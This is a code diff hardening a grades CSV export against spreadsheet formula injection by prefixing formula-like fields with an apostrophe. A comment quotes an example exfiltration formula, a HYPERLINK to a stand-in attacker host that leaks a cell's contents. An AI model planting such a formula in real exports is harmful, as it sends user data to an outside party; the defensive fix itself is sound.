@@ -4,9 +4,18 @@ const COLUMNS = ['learner', 'lesson', 'exercise', 'passed', 'attempts', 'first_p
 
 const iso = (ms: number | null): string => (ms == null ? '' : new Date(ms).toISOString());
 
-/** RFC 4180 quoting: a field with a comma, quote or line break is quoted, quotes doubled. */
+/**
+ * A text a spreadsheet would run as a formula (OWASP "CSV injection"): a
+ * class name or display name such as `=HYPERLINK("http://evil.example?"&A1,"x")`
+ * is a working formula when the instructor opens the file. Such a field gets
+ * a leading `'`, which spreadsheets read as "this is text".
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** One CSV field: formula-like text neutralised, then RFC 4180 quoting (a field with a comma, quote or line break is quoted, quotes doubled). */
 export function csvField(value: string): string {
-  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
+  const text = FORMULA_START.test(value) ? `'${value}` : value;
+  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
 }
 
 /** Grades as CSV, one row per learner and exercise, times in ISO 8601 (UTC). */
